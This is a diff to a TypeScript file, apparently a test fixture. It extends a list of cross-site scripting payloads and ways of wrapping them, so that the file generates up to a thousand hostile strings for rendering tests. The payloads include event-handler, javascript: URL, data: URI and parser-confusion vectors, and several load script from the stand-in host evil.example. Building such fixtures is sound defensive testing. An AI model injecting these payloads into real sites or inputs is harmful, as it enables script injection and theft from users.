@@ -40,15 +40,94 @@ const attempts: readonly string[] = [
   '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
   '＜script＞alert(1)＜/script＞',
   ']]><script>alert(1)</script>',
+  '<img/src/onerror=alert(1)>',
+  '<img/src=x:x/onerror=confirm(1)>',
+  '<img/src=x/onerror=prompt`1`>',
+  '<image/src/onerror=alert(1)>',
+  '<img/srcset=x/onerror=alert(1)>',
+  '<picture><source/srcset=x><img/onerror=alert(1)/src=x></picture>',
+  '<svg/onload=alert`1`>',
+  '<svg><animate/onbegin=alert(1)/attributeName=x/dur=1s>',
+  '<svg><set/onbegin=alert(1)/attributename=x/to=y>',
+  '<svg><a/xlink:href=javascript:alert(1)><text/y=9>x</text></a>',
+  '<svg><use/href=data:image/svg%2bxml,<svg/id=x/onload=alert(1)/>#x>',
+  '<svg><foreignObject><iframe/src=javascript:alert(1)></foreignObject></svg>',
+  '<svg><style>@import//evil.example;</style></svg>',
+  '<svg></p><style><a/id="</style><img/src=1/onerror=alert(1)>">',
+  '<math/href=javascript:alert(1)>click</math>',
+  '<math><maction/actiontype=statusline#http://x/xlink:href=javascript:alert(1)>x',
+  '<audio/src/onerror=alert(1)>',
+  '<audio/controls/autoplay/onplay=alert(1)/src=x>',
+  '<video><source/onerror=alert(1)>',
+  '<video/poster=javascript:alert(1)>',
+  '<body/onpageshow=alert(1)>',
+  '<body/onhashchange=alert(1)><a/href=#>x',
+  '<body/style=background:url(//evil.example)>',
+  '<marquee/onstart=alert(1)>',
+  '<marquee/behavior=alternate/onbounce=alert(1)>x',
+  '<select/autofocus/onfocus=alert(1)>',
+  '<textarea/autofocus/onfocus=alert(1)>',
+  '<keygen/autofocus/onfocus=alert(1)>',
+  '<button/autofocus/onfocus=alert(1)>',
+  '<input/type=image/src/onerror=alert(1)>',
+  '<input/onblur=alert(1)/autofocus><input/autofocus>',
+  '<form><button/formaction=javascript:alert(1)>go',
+  '<form/id=x></form><button/form=x/formaction=javascript:alert(1)>go',
+  '<isindex/type=image/src=1/onerror=alert(1)>',
+  '<object/type=text/x-scriptlet/data=//evil.example>',
+  '<object/data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>',
+  '<embed/src=javascript:alert(1)>',
+  '<frameset/onload=alert(1)>',
+  '<iframe/onload=alert(1)>',
+  '<iframe/src=data:text/html,<script>alert(1)</script>>',
+  '<portal/src=//evil.example>',
+  '<dialog/open/onclose=alert(1)><form/method=dialog><button>x',
+  '<x/onclick=alert(1)/tabindex=1/autofocus/onfocus=alert(1)>',
+  '<xss/id=x/tabindex=1/onfocusin=alert(1)>',
+  '<a/href="&#106;avascript:alert(1)">x</a>',
+  '<a/href="java&Tab;script:alert(1)">x</a>',
+  '<a/href=//evil.example/target=_blank>x</a>',
+  '<a/ping=//evil.example/href=#>x</a>',
+  '<script/src=data:,alert(1)></script>',
+  '<script/src=//evil.example></script>',
+  '<script>alert(1)//',
+  '<script\\x3E>alert(1)</script>',
+  '</script><script>alert(1)</script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<style>*{background:url(//evil.example)}</style>',
+  '<p/style=animation:x/onanimationstart=alert(1)>',
+  '<plaintext/onmouseover=alert(1)>',
+  '<xmp><p/title="</xmp><img/src/onerror=alert(1)>">',
+  '<listing>&lt;img/src/onerror=alert(1)&gt;</listing>',
+  '<?xml-stylesheet/href=javascript:alert(1)?>',
+  '<noembed><img/title="</noembed><img/src/onerror=alert(1)>">',
+  '<a/style=position:fixed;inset:0/href=//evil.example>x</a>',
 ];
 
+/** How each is brought near a place where it might be taken for more than text. */
 const disguises: readonly ((attempt: string) => string)[] = [
   (attempt) => attempt,
   (attempt) => attempt.toUpperCase(),
   (attempt) => `APPROVE">${attempt}`,
   (attempt) => `x'-->${attempt}<!--`,
   (attempt) => attempt.replaceAll('<', '<<').replaceAll('alert', 'top.alert'),
+  (attempt) => `</td></table></svg></title>${attempt}`,
+  (attempt) => `x\\">${attempt}<x/y="`,
+  (attempt) => encodeURIComponent(attempt),
+  (attempt) => attempt.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (attempt) => `\\u0022\\x3e${attempt}&quot;&#62;`,
 ];
 
-/** Two hundred of them. */
-export const hostile: readonly string[] = disguises.flatMap((disguise) => attempts.map(disguise));
+/** A thousand of them, no two alike (T11). */
+export const hostile: readonly string[] = [
+  ...new Set(disguises.flatMap((disguise) => attempts.map(disguise))),
+].slice(0, 1_000);
+
+/** How many stand on one line. */
+export const together = 5;
+
+/** The same, so many on a line that a page of two hundred rows holds all. */
+export const hostileRows: readonly (readonly string[])[] = Array.from(
+  { length: Math.ceil(hostile.length / together) },
+  (_, row) => hostile.slice(row * together, (row + 1) * together),
+);
